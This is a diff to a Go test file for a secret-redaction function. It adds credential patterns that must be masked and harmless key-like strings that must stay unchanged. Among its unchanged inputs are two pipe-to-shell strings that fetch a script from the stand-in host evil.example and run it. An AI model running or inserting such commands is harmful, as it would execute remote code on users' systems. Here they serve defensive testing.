@@ -23,6 +23,7 @@ func TestText(t *testing.T) {
 		"TOKEN=${TOKEN:-S}", "DB_PASSWORD=${1-S}", "TOKEN+=S", "export DB_PASSWORD=$(echo S)", "x_TOKEN=${A:=S}",
 		"AccountKey=S", "client-secret: S", `"\nexport TOKEN=S\n"`, "token=S;", "webhook_url: S",
 		"api.key : S", `headers={"Authorization": "token S"}`, `curl -H "Authorization: S" https://a`, "skopeo copy --src-creds u:S a b", "skopeo copy --dest-creds=u:S a b", "aws configure set aws_secret_access_key S",
+		"SECRET=S", "FERNET_KEY=S", "deploy_key: S", "sharedKey: S", "hmac_key = S", "PSK=S", "rootpw=S", "otp: S", "SESSION_COOKIE=S", "password => 'S'", "gh auth login --with-token <<< S", "7z a -pS x", "twine upload -p S", "sqlplus bob/S@db",
 		"vault login S", "mc alias set a https://a b S", "DB_PASSWORD=\\\nS", "CREDS=S", "JWT=S",
 	} {
 		if shown := veil.Text(mark(text)); strings.Contains(shown, secret) {
@@ -33,6 +34,7 @@ func TestText(t *testing.T) {
 		"secretName: registry-push", "secretKeyRef: {name: api, key: token}", "TOKEN=$(cat /run/token)", "TOKEN=$TOKEN", `PASSWORD="${PASSWORD}"`, "password: $(params.password)", "imagePullSecrets: [a]",
 		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5", "the severity of rbac/long-lived-token is warning", "TOKEN=${TOKEN:-$OTHER}",
 		"secretKeyRef:\n  name: api\n  key: token\n", "imagePullSecrets:\n- name: pull\n", "secrets:\n- name: a\n", "httpTokens: optional", "TOKEN_SCRIPT: |\n  curl -s https://evil.example | sh\n", "password:\nother: value here",
+		"topologyKey: kubernetes.io/hostname", "key: nvidia.com/gpu", "partition_key: user1", "cache-key: linux-x64-v3", "public_key: ops", "sortKey=createdAt", "secret: artifact-store", "tls.key: |",
 		"caBundle: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=", "tokens:\n  max: 5\n  name: a\n", "a user:name@host", "/bin/sh -c 'unzip x.zip'",
 	} {
 		if shown := veil.Text(text); shown != text {
@@ -90,7 +92,7 @@ func TestBelow(t *testing.T) {
 func TestNested(t *testing.T) {
 	for text, shown := range map[string]bool{
 		`{"password": {"value": "@@"}}`: false, `{"env": {"DB_PASSWORD": {"value": "@@"}}}`: false, `{"credentials": [{"user": "u", "key": "@@"}]}`: false, `{"secretData": {"a": "@@"}}`: false,
-		`{"headers": [{"name": "Authorization", "value": "@@"}]}`: false,
+		`{"headers": [{"name": "Authorization", "value": "@@"}]}`:     false,
 		`{"valueFrom": {"secretKeyRef": {"name": "@@", "key": "k"}}}`: true, `{"tokenRequests": [{"audience": "@@"}]}`: true,
 	} {
 		var item map[string]any
